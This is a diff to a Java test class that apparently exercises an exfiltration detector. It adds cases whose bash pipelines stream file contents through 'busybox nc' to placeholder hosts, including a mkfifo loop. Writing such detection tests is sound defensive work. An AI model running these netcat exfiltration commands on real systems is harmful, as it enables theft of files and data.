@@ -79,6 +79,17 @@ class RealExfiltrationTest {
         }
     }
 
+    @Test
+    void a_file_is_told_though_somebody_else_holds_it_to_write_to_it() throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+            Process sends =
+                    host.start("bash", "-c", filled("sleep 60 >> $F/x & busybox nc $A $P < $F/x; true", server));
+            try (Socket _ = server.accept()) {
+                host.below(sends, seen -> seen.relations().exfiltration().isPresent());
+            }
+        }
+    }
+
     @ParameterizedTest
     @ValueSource(
             strings = {
@@ -109,6 +120,7 @@ class RealExfiltrationTest {
             strings = {
                 "while sleep 1; do echo metric; done | busybox nc $A $P",
                 "tail -f $F/x | busybox nc $A $P",
+                "mkfifo $F/f; busybox nc $A $P < $F/f | (while read -r l; do echo $l; done; sleep 60) > $F/f",
                 "tar c $F | (sleep 60; busybox nc $A $P)"
             })
     void a_script_or_a_log_is_not(String pipeline) throws IOException {
